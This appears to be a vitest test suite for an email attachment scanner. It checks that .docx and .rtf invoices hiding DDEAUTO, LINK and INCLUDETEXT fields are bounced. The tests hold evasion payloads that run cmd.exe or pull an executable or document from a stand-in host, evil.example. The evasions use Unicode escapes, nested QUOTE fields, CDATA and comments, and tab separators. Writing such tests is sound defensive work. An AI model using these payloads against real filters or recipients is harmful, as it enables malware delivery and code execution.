import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { DDE_COMMAND, DOCX, docxOf, fieldBegin, fieldEnd, instrRun } from './office-builders.js';
import { useLocalStack } from './stack.js';

// Word fields that run a program (DDEAUTO) or open a file (LINK, INCLUDETEXT), in forms the field reader misses.
const stack = useLocalStack();
const kit = attackerKit(stack);
const verdict = async (name: string, file: Buffer, type?: string) =>
  (await kit.inbound(attachedFile(name, file, type)[0])).verdict;
const docx = docxOf;
const begin = fieldBegin;
const separate = '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>';
const end = fieldEnd;
const instr = instrRun;
const rtf = (instruction: string) =>
  Buffer.from(`{\\rtf1\\ansi Invoice\\par{\\field{\\*\\fldinst {${instruction}}}{\\fldrslt x}}}`);
// QUOTE's arguments as character codes: Word evaluates the nested field and uses its result as the path.
const quoted = (text: string) => `QUOTE ${[...text].map((c) => c.charCodeAt(0)).join(' ')}`;
const DDE = DDE_COMMAND;

// A50-2 (high): rtfFieldInstructions (field-codes.ts:79-84) consumes `\uN` as a control word without emitting the
// character, then keeps its ANSI fallback: `\u68 x\u68 x\u69 xAUTO` is DDEAUTO to Word and `xxxAUTO` here.
describe('A50-2: an RTF field instruction spelled with \\u escapes', () => {
  it('bounces an .rtf whose DDEAUTO is written \\u68 \\u68 \\u69 with decoy fallbacks', async () => {
    expect(
      await verdict(
        'Invoice.rtf',
        rtf('\\uc1\\u68 x\\u68 x\\u69 xAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc"'),
      ),
    ).toBe('BOUNCE');
  });
  it('bounces an .rtf whose DDEAUTO is written with \\uc0 (no fallback)', async () => {
    expect(
      await verdict(
        'Invoice.rtf',
        rtf('\\uc0\\u68\\u68\\u69 AUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc"'),
      ),
    ).toBe('BOUNCE');
  });
  it('(control) bounces it spelled plainly', async () => {
    expect(await verdict('Invoice.rtf', rtf('DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe "/k calc"'))).toBe(
      'BOUNCE',
    );
  });
});

// A50-6 (medium): fieldSources (field-codes.ts:14, :30) takes the nested field's code (`QUOTE 92 92 …`) as the
// path: its last segment has no extension and no scheme, so neither the name check nor the remote refusal fires.
// What the path is becomes known only once Word evaluates the nested field: not knowing should block.
describe('A50-6: a field whose source is built by a nested field', () => {
  it('bounces a .docx LINK Package to an executable on a share spelled by a QUOTE field', async () => {
    const body = `<w:p>${begin}${instr('LINK Package "')}${begin}${instr(quoted('\\\\evil.example\\s\\invoice.exe'))}${separate}${end}${instr('" "" \\a')}${separate}${end}</w:p>`;
    expect(await verdict('Invoice.docx', docx(body), DOCX)).toBe('BOUNCE');
  });
  it('bounces a .docx INCLUDETEXT from a server spelled by a QUOTE field', async () => {
    const body = `<w:p>${begin}${instr('INCLUDETEXT "')}${begin}${instr(quoted('http://evil.example/doc'))}${separate}${end}${instr('"')}${separate}${end}</w:p>`;
    expect(await verdict('Invoice.docx', docx(body), DOCX)).toBe('BOUNCE');
  });
});

// A50-7 (medium-high; Word's acceptance of CDATA, comments and processing instructions inside document.xml text is
// assumed, as of any conforming XML parser): INSTR_TEXT (field-codes.ts:39) captures `[^<]*`, up to the first `<`:
// an instruction in a CDATA section reads as empty, and one cut by a comment or a processing instruction as its
// first piece only (`DD`, `INCLUDE`).
describe('A50-7: a field instruction in a CDATA section or cut by a comment', () => {
  it('bounces a .docx whose DDEAUTO instruction is CDATA', async () => {
    const body = `<w:p>${begin}<w:r><w:instrText><![CDATA[${DDE}]]></w:instrText></w:r>${end}</w:p>`;
    expect(await verdict('Invoice.docx', docx(body), DOCX)).toBe('BOUNCE');
  });
  it('bounces a .docx whose DDEAUTO is cut by an XML comment inside one w:instrText', async () => {
    const body = `<w:p>${begin}<w:r><w:instrText xml:space="preserve">DD<!-- -->EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>${end}</w:p>`;
    expect(await verdict('Invoice.docx', docx(body), DOCX)).toBe('BOUNCE');
  });
  it('bounces a .docx whose INCLUDETEXT from a server is cut by a processing instruction', async () => {
    const body = `<w:p>${begin}<w:r><w:instrText xml:space="preserve">INCLUDE<?x?>TEXT "http://evil.example/doc"</w:instrText></w:r>${separate}${end}</w:p>`;
    expect(await verdict('Invoice.docx', docx(body), DOCX)).toBe('BOUNCE');
  });
});

// A50-15 (high for .docx, medium for .rtf): the field reader joins a .docx's w:instrText runs with nothing between
// them (field-codes.ts:53) and drops every RTF control word (field-codes.ts:80), but Word reads a `<w:tab/>` run
// inside a field's code, and RTF's `\tab`, `\~` (no-break space) and `\emspace`, as the white space that separates
// the field's type from its arguments: `DDEAUTO<tab>c:\…` reads here as `DDEAUTOc:\…`, no DDEAUTO word, and
// `LINK<tab>Package` as `LINKPackage`.
describe('A50-15: a field type separated from its arguments by a tab or a control word', () => {
  it('bounces a .docx whose DDEAUTO is followed by a w:tab run', async () => {
    const body = `<w:p>${begin}${instr('DDEAUTO')}<w:r><w:tab/></w:r>${instr('c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')}${end}</w:p>`;
    expect(await verdict('Invoice.docx', docx(body), DOCX)).toBe('BOUNCE');
  });
  it('bounces a .docx LINK<tab>Package to an executable on a share', async () => {
    const body = `<w:p>${begin}${instr('LINK')}<w:r><w:tab/></w:r>${instr('Package')}<w:r><w:tab/></w:r>${instr('"\\\\\\\\evil.example\\\\s\\\\invoice.exe" "" \\a')}${separate}${end}</w:p>`;
    expect(await verdict('Invoice.docx', docx(body), DOCX)).toBe('BOUNCE');
  });
  it('bounces an .rtf whose DDEAUTO is followed by \\tab', async () => {
    expect(
      await verdict(
        'Invoice.rtf',
        rtf('DDEAUTO\\tab c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc"'),
      ),
    ).toBe('BOUNCE');
  });
  it('bounces an .rtf whose DDEAUTO is followed by \\~', async () => {
    expect(
      await verdict(
        'Invoice.rtf',
        rtf('DDEAUTO\\~c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc"'),
      ),
    ).toBe('BOUNCE');
  });
  it('bounces an .rtf INCLUDETEXT\\emspace from a server', async () => {
    expect(await verdict('Invoice.rtf', rtf('INCLUDETEXT\\emspace "http://evil.example/doc"'))).toBe(
      'BOUNCE',
    );
  });
});
